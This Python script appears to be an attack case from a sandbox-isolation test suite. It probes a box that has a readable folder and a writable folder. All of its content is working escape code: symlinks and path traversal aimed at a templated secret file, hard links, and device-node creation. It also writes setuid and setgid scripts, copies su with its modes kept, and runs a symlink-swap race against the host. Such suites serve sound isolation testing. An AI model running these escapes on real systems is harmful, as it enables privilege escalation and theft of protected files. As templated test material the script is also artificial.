# attack: mounts/links-and-modes
# oracle: write-file
# imports: os, subprocess
# tools:
# source: own
# note: a box that has a folder to read and one to write: links that lead out, modes that lend rights, names that grow, races
import os, stat, subprocess, threading
links = {"abs": "{{SECRET_FILE}}", "up": "../../../../../../../../{{SECRET_FILE}}", "self": "/proc/self/root{{SECRET_FILE}}", "root": "/"}
for name, target in links.items():
    try:
        os.symlink(target, f"out/{name}")
        print(name, open(f"out/{name}").read(100))
    except OSError as error:
        print(name, error)
for name in ("out/root{{SECRET_FILE}}", "data/leads_out", "data/../../../{{SECRET_FILE}}", "out/../../vault/secret.txt"):
    try:
        print(name, open(name).read(100))
    except OSError as error:
        print(name, error)
for change in (lambda: os.link("{{SECRET_FILE}}", "out/hard"), lambda: os.link("data/a.txt", "out/hard2"), lambda: os.rename("data/a.txt", "out/a"),
               lambda: os.symlink("{{PWN_FILE}}", "out/pwn"), lambda: open("out/pwn", "w").write("x"),
               lambda: open("data/a.txt", "w").write("x"), lambda: os.chmod("data/a.txt", 0o777), lambda: os.utime("data/a.txt", (1, 1)),
               lambda: os.mknod("out/null", stat.S_IFCHR | 0o666, os.makedev(1, 3)), lambda: os.chown("out", 0, 0), lambda: os.chmod("out", 0o6777),
               lambda: os.setxattr("out", "security.capability", bytes(20)), lambda: os.removexattr("out", "user.x")):
    try:
        print(change())
    except OSError as error:
        print(error)
# a program of the host's that lends the user's rights to whoever starts it
body = b"#!/bin/sh\ntouch {{PWN_FILE}}\n"
for number, mode in enumerate((0o4755, 0o2755, 0o6777)):
    for flags in (os.O_WRONLY | os.O_CREAT, os.O_RDWR | os.O_TMPFILE):
        try:
            fd = os.open(f"out/set{number}" if flags & os.O_CREAT else "out", flags, mode)
            os.write(fd, body)
            os.fchmod(fd, mode)
        except OSError as error:
            print(error)
    for change in (lambda: os.chmod(f"out/set{number}", mode), lambda: os.open(f"out/late{number}", os.O_CREAT, mode)):
        try:
            open(f"out/set{number}", "wb").close()
            change()
        except OSError as error:
            print(error)
for line in ("chmod 4755 out/set0", "chmod g+s out", "install -m 4755 out/set0 out/set9", "cp --preserve=all /usr/bin/su out/su", "out/set0", "sh out/set0"):
    try:
        print(subprocess.run(["sh", "-c", line], capture_output=True, text=True, timeout=1))
    except (OSError, subprocess.SubprocessError) as error:
        print(error)
# a name that is a file and a link in turn, for whoever of the host follows it
def flip():
    for _ in range(300):
        try:
            os.symlink("{{SECRET_FILE}}", "out/turn")
            os.unlink("out/turn")
            os.close(os.open("out/turn", os.O_CREAT | os.O_WRONLY, 0o666))
            os.unlink("out/turn")
        except OSError:
            pass
thread = threading.Thread(target=flip)
thread.start()
for _ in range(300):
    try:
        print(open("out/turn").read(50), end="")
    except OSError:
        pass
thread.join()
try:
    os.rename("out", "data")
    print(open("data/x", "w").write("x"), open("data/abs").read(100))
except OSError as error:
    print(error)
